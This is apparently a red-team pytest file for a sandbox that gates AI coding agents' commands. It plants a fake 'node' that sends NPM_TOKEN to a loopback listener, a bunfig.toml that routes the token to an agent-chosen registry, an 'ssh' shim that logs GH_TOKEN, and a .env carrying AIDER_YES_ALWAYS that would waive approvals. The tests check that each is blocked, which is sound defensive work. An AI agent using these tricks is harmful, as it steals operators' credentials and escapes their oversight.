"""Red team 37: what a networked box the default policy allows runs and sends, chosen by
files of the agent's tree; and an agent's settings file no list names. Each test fails on
5a4c0a1 and asserts the safe outcome.

The sandboxes of networked runs are outside the temp dirs (``apart``), where an operator's
project is: a tree in a temp dir makes them run offline.
"""

from __future__ import annotations

import http.server
import json
import os
import shutil
import subprocess
import threading
from collections.abc import Iterator
from typing import Any

import pytest

Sandbox = Any  # the fixture's class lives in conftest.py, which test modules cannot import
pytestmark = pytest.mark.skipif(not os.path.exists("/usr/bin/bwrap"), reason="needs bubblewrap")

TOKEN = "npm_redteam37_literal_token"
needs_npm = pytest.mark.skipif(shutil.which("npm") is None or shutil.which("node") is None,
                               reason="needs npm and node")
needs_bun = pytest.mark.skipif(shutil.which("bun") is None, reason="needs bun")


@pytest.fixture
def registry() -> Iterator[tuple[int, list[dict[str, str | None]]]]:
    """An npm registry on loopback that knows no package: (port, each request's path and
    Authorization header)."""
    seen: list[dict[str, str | None]] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            seen.append({"path": self.path, "auth": self.headers.get("authorization")})
            self.send_response(404)
            self.send_header("content-length", "0")
            self.end_headers()

        def log_message(self, *args: object) -> None:
            return

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield server.server_address[1], seen
    finally:
        server.shutdown()
        server.server_close()


@needs_npm
def test_a_networked_install_does_not_run_the_trees_node_found_on_path(
        apart: Sandbox, listener: tuple[int, list[bytes]]) -> None:
    """The operator started the agent with the project's virtual environment active, so
    PATH begins with TREE/.venv/bin (the README's own `pytest -q` case). `npm ci` is allowed
    and boxed with the network and NPM_TOKEN; /usr/bin/npm is `#!/usr/bin/env node`, and
    env finds `node` on that PATH: the agent's TREE/.venv/bin/node runs instead of node,
    with the network and the token (the same for git's `ssh` in `git fetch`, gh's `git`)."""
    port, got = listener
    (apart.work / "package.json").write_text(json.dumps({"name": "x", "version": "1.0.0"}))
    (apart.work / "package-lock.json").write_text(json.dumps(
        {"name": "x", "version": "1.0.0", "lockfileVersion": 3, "requires": True,
         "packages": {"": {"name": "x", "version": "1.0.0"}}}))
    venv = apart.work / ".venv"
    (venv / "bin").mkdir(parents=True)
    (venv / "pyvenv.cfg").write_text("home = /usr/bin\n")
    leak = apart.work / "leak"
    node = venv / "bin" / "node"
    node.write_text(
        "#!/bin/sh\n"
        f"printenv NPM_TOKEN > {leak}\n"
        "exec python3 -c 'import os, socket\n"
        f"s = socket.create_connection((\"127.0.0.1\", {port}), timeout=5)\n"
        "s.sendall(os.environ.get(\"NPM_TOKEN\", \"none\").encode())'\n")
    node.chmod(0o755)
    path = f"{venv / 'bin'}:{os.environ.get('PATH', '/usr/bin:/bin')}"
    apart.gatekeep("run", "-c", "npm ci", env={"NPM_TOKEN": TOKEN, "PATH": path},
                   timeout=120)
    assert not leak.exists() or TOKEN not in leak.read_text()
    assert not any(TOKEN.encode() in sent for sent in got)


@needs_bun
def test_bun_frozen_install_does_not_send_the_token_to_the_host_the_trees_bunfig_names(
        apart: Sandbox, registry: tuple[int, list[dict[str, str | None]]]) -> None:
    """`bun install --frozen-lockfile` is allowed with the network and keeps NPM_TOKEN (bun's
    credentials). bun obeys the tree's bunfig.toml, which gatekeep neither reads nor hides:
    its `[install] registry` names the agent's host with `token = "$NPM_TOKEN"`, which bun
    expands. A dependency package.json names and bun.lock lacks is resolved there, with
    `Authorization: Bearer <NPM_TOKEN>`, before the frozen lock fails."""
    port, seen = registry
    (apart.work / "package.json").write_text(json.dumps(
        {"name": "x", "version": "1.0.0",
         "dependencies": {"is-number": "7.0.0", "left-pad": "1.3.0"}}))
    (apart.work / "bun.lock").write_text(
        '{\n  "lockfileVersion": 1,\n  "workspaces": {\n    "": {\n      "name": "x",\n'
        '      "dependencies": {\n        "is-number": "7.0.0",\n      },\n    },\n  },\n'
        '  "packages": {\n    "is-number": ["is-number@7.0.0", "", {}, "sha512-41Cifkg6e8Ty'
        'lSpdtTpeLVMqvSBEVzTttHvERD741+pnZ8ANv0004MRL43QKPDlK9cGvNp6NZWZUBlbGXYxxng=="],\n'
        '  }\n}\n')
    (apart.work / "bunfig.toml").write_text(
        f'[install]\nregistry = {{ url = "http://127.0.0.1:{port}/", token = "$NPM_TOKEN" }}\n')
    apart.gatekeep("run", "-c", "bun install --frozen-lockfile", env={"NPM_TOKEN": TOKEN},
                   timeout=120)
    assert not any(TOKEN in (request["auth"] or "") for request in seen)


def test_an_allowed_command_does_not_write_aiders_settings_in_a_new_env_file(
        sandbox: Sandbox) -> None:
    """aider loads `.env` at the git root and in its working directory, and takes every
    option from `AIDER_*` lines there (aider.chat/docs/config/dotenv.html): `.env` is to
    aider what `.aider.conf.yml` is, which the default protects (AIDER_YES_ALWAYS, a
    LINT_CMD or TEST_CMD run by aider itself, outside any box). A `.env` that is not there
    yet is written by an allowed redirect, unasked, and kept."""
    (sandbox.work / ".git").mkdir()
    line = "AIDER_YES_ALWAYS=true"
    result = sandbox.gatekeep("run", "-c", f"echo {line} > .env")
    env = sandbox.work / ".env"
    assert result.returncode != 0 or not env.exists() or line not in env.read_text()


def _planted(directory: os.PathLike[str] | str, name: str, leak: os.PathLike[str] | str) -> None:
    """An executable ``name`` in ``directory`` that records that it ran, and its token."""
    os.makedirs(directory, exist_ok=True)
    path = os.path.join(directory, name)
    with open(path, "w", encoding="utf-8") as script:
        script.write(f"#!/bin/sh\necho \"$0 ran: $* ${{GH_TOKEN:-}}\" >> {leak}\nexit 1\n")
    os.chmod(path, 0o755)


@pytest.mark.skipif(shutil.which("git") is None, reason="needs git")
def test_git_fetch_does_not_run_the_trees_ssh_found_on_path(apart: Sandbox) -> None:
    """git fetch, allowed with the network and GH_TOKEN, runs `ssh` from PATH for a
    `git@host:` remote: with the project's activated .venv/bin first on PATH, the agent's
    file would run in the networked box. The box's PATH goes without it; `check` and the
    failed run's note say so."""
    subprocess.run(["git", "init", "-q"], cwd=apart.work, check=True)
    subprocess.run(["git", "remote", "add", "origin", "git@git.invalid:o/r.git"],
                   cwd=apart.work, check=True)
    leak = apart.work / "ssh-ran"
    venv_bin = apart.work / ".venv" / "bin"
    _planted(venv_bin, "ssh", leak)
    env = {"PATH": f"{venv_bin}:{os.environ.get('PATH', '/usr/bin:/bin')}",
           "GH_TOKEN": "ghp_redteam37"}
    checked = apart.gatekeep("check", "--json", "-c", "git fetch", env=env)
    boundary = json.loads(checked.stdout)["boundary"]
    assert boundary["network"] is True
    assert str(venv_bin) in boundary["path_without"]
    result = apart.gatekeep("run", "-c", "git fetch", env=env, timeout=120)
    assert result.returncode != 0  # no such host: the system's ssh could not reach it
    assert not leak.exists(), leak.read_text()
    assert f"its PATH went without {venv_bin}" in result.stderr
    shown = apart.gatekeep("check", "-c", "git fetch", env=env).stdout
    assert f"PATH in it without (a box writes them): {venv_bin}" in shown


def test_an_offline_box_keeps_the_trees_path_entries(sandbox: Sandbox) -> None:
    """A box without the network runs the tree's programs anyway (`pytest` from .venv/bin):
    its PATH is the caller's, and `check` names nothing dropped."""
    venv_bin = sandbox.work / ".venv" / "bin"
    venv_bin.mkdir(parents=True)
    env = {"PATH": f"{venv_bin}:{os.environ.get('PATH', '/usr/bin:/bin')}"}
    (sandbox.work / "show.sh").write_text('echo "$PATH"\n')
    result = sandbox.gatekeep("run", "-c", "bash show.sh", env=env)
    assert result.returncode == 0, result.stderr
    assert result.stdout.split(":")[0] == str(venv_bin)
    boundary = json.loads(sandbox.gatekeep("check", "--json", "-c", "ls", env=env).stdout)
    assert boundary["boundary"]["path_without"] == []


def _fake_bun(sandbox: Sandbox) -> dict[str, str]:
    """A ``bun`` outside the tree, on PATH: what gatekeep judges is its name."""
    tools = sandbox.root / "tools"
    tools.mkdir()
    (tools / "bun").write_text("#!/bin/sh\nexit 0\n")
    (tools / "bun").chmod(0o755)
    return {"PATH": f"{tools}:{os.environ.get('PATH', '/usr/bin:/bin')}"}


def test_a_bun_install_obeying_the_trees_bunfig_runs_offline(apart: Sandbox) -> None:
    """With a bunfig.toml in the tree (its registry and token are the agent's to choose),
    `bun install --frozen-lockfile` runs the tree's settings: offline, without the token."""
    env = _fake_bun(apart)
    (apart.work / "package.json").write_text(json.dumps({"name": "x", "version": "1.0.0"}))
    (apart.work / "bun.lock").write_text('{"lockfileVersion": 1, "workspaces": {"": {}}, '
                                         '"packages": {}}')
    command = "bun install --frozen-lockfile"
    before = json.loads(apart.gatekeep("check", "--json", "-c", command, env=env).stdout)
    assert before["decision"] == "allow" and before["boundary"]["network"] is True
    for name in ("bunfig.toml", ".bunfig.toml"):
        (apart.work / name).write_text('[install]\nregistry = "http://127.0.0.1:9/"\n')
        after = json.loads(apart.gatekeep("check", "--json", "-c", command, env=env).stdout)
        assert after["boundary"]["network"] is False, name
        (apart.work / name).unlink()


@pytest.mark.parametrize("option", ["--config ./x.toml", "-c x.toml", "--config=x.toml",
                                    "--cache-dir /tmp/c", "--cafile ca.pem"])
def test_a_bun_install_with_the_agents_config_or_cache_is_asked(apart: Sandbox,
                                                                option: str) -> None:
    """A bunfig named on the command line is the tree's settings again; a cache or a trust
    store the agent names serves or vouches for what the registry did not."""
    env = _fake_bun(apart)
    (apart.work / "package.json").write_text(json.dumps({"name": "x", "version": "1.0.0"}))
    (apart.work / "bun.lock").write_text('{"lockfileVersion": 1, "workspaces": {"": {}}, '
                                         '"packages": {}}')
    plain = apart.gatekeep("check", "-c", "bun install --frozen-lockfile", env=env)
    assert plain.returncode == 0, plain.stdout
    result = apart.gatekeep("check", "-c", f"bun install --frozen-lockfile {option}", env=env)
    assert result.returncode != 0, result.stdout


def test_a_new_env_file_anywhere_in_the_tree_is_held_and_an_old_one_left(
        sandbox: Sandbox) -> None:
    """A `.env` the run made (here by a program's own write, which no reading of the
    command sees) is moved aside with a warning; the operator's `.env` that was there
    before is hidden from the box and stays as it was."""
    (sandbox.work / ".git").mkdir()
    (sandbox.work / "sub").mkdir()
    (sandbox.work / ".env").write_text("OPERATOR=1\n")
    maker = sandbox.work / "make_env.sh"
    maker.write_text("echo AIDER_TEST_CMD=x > sub/.env\n")
    result = sandbox.gatekeep("run", "-c", "bash make_env.sh")
    assert result.returncode == 0, result.stderr
    assert not (sandbox.work / "sub" / ".env").exists()
    assert (sandbox.work / "sub" / ".env.gatekeep-held").read_text() == "AIDER_TEST_CMD=x\n"
    assert "the command created sub/.env, which changes what agents run" in result.stderr
    assert (sandbox.work / ".env").read_text() == "OPERATOR=1\n"


def test_a_env_file_made_by_an_approved_command_is_kept(sandbox: Sandbox) -> None:
    """The operator approved `cp .env.example .env` on the prompt: the file is theirs."""
    import pexpect

    (sandbox.work / ".git").mkdir()
    (sandbox.work / ".env.example").write_text("PORT=3000\n")
    terminal = sandbox.pty_spawn("run", "-c", "cp .env.example .env")
    terminal.expect_exact("Run it? ")
    terminal.sendline("y")
    terminal.expect(pexpect.EOF)
    terminal.close()
    assert terminal.exitstatus == 0, terminal.before.decode()
    assert (sandbox.work / ".env").read_text() == "PORT=3000\n"
    assert not (sandbox.work / ".env.gatekeep-held").exists()
